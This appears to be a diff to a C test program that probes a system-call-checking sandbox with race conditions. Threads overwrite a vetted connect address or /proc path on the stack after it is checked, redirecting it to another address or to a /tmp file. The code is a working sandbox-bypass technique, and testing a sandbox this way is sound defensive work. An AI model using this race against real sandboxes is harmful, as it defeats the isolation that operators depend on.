@@ -5,6 +5,8 @@
  *                                    starts without the shield, and leaves a file in /tmp
  *   overwriting address ADDRESS      another address is written over a judged one, on the stack of the thread that
  *                                    connects
+ *   overwriting path FILE            the path of a file of /tmp is written over the gate's copy of one in /proc, on the
+ *                                    stack of the thread that opens it
  */
 #include "midst.h"
 #include <arpa/inet.h>
@@ -73,17 +75,31 @@ static int start_children(char *shell)
 static char *volatile frame;
 static struct sockaddr_in judged, another;
 static volatile int got, tries;
+/* What lies on the stack below, what is written over it, and how much of it. */
+static const void *before, *after;
+static size_t size;
 
-static void *overwrite_address(void *unused)
+static void *overwrite_stack(void *unused)
 {
     (void)unused;
     while (!frame)
         ;
     while (!stop)
         for (char *p = frame - BELOW; p < frame - SELF; p += 4)
-            if (!memcmp(p, &judged, 8))
-                memcpy(p, &another, 8);
+            if (!memcmp(p, before, size))
+                memcpy(p, after, size);
     return NULL;
+}
+
+static int race(void *(*often)(void *))
+{
+    pthread_t threads[2];
+    pthread_create(&threads[0], NULL, overwrite_stack, NULL);
+    pthread_create(&threads[1], NULL, often, NULL);
+    pthread_join(threads[1], NULL);
+    stop = 1;
+    pthread_join(threads[0], NULL);
+    return print(got, tries);
 }
 
 static void *connect_often(void *unused)
@@ -106,22 +122,47 @@ static void *connect_often(void *unused)
 
 static int connect_elsewhere(const char *address)
 {
-    pthread_t threads[2];
     judged = (struct sockaddr_in){
         .sin_family = AF_INET, .sin_port = htons(9999), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
     another = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80)};
     inet_aton(address, &another.sin_addr);
-    pthread_create(&threads[0], NULL, overwrite_address, NULL);
-    pthread_create(&threads[1], NULL, connect_often, NULL);
-    pthread_join(threads[1], NULL);
-    stop = 1;
-    pthread_join(threads[0], NULL);
-    return print(got, tries);
+    before = &judged;
+    after = &another;
+    size = 8; /* family, port, address */
+    return race(connect_often);
+}
+
+static const char in_proc[64] = "/proc/self/status";
+
+static void *open_often(void *unused)
+{
+    char begins[7] = {0};
+    (void)unused;
+    frame = __builtin_frame_address(0);
+    for (double end = now() + PATIENCE; now() < end && !got; tries++) {
+        int file = open(in_proc, O_RDONLY);
+        if (file >= 0 && read(file, begins, sizeof begins - 1) > 0)
+            got = !!strcmp(begins, "Name:\t");
+        close(file);
+    }
+    return NULL;
+}
+
+static int open_elsewhere(const char *path)
+{
+    static char elsewhere[64];
+    strncpy(elsewhere, path, sizeof elsewhere - 1);
+    before = in_proc;
+    after = elsewhere;
+    size = strlen(in_proc) + 1;
+    return race(open_often);
 }
 
 int main(int argc, char **argv)
 {
     if (argc != 3)
         return 2;
+    if (!strcmp(argv[1], "path"))
+        return open_elsewhere(argv[2]);
     return !strcmp(argv[1], "environment") ? start_children(argv[2]) : connect_elsewhere(argv[2]);
 }
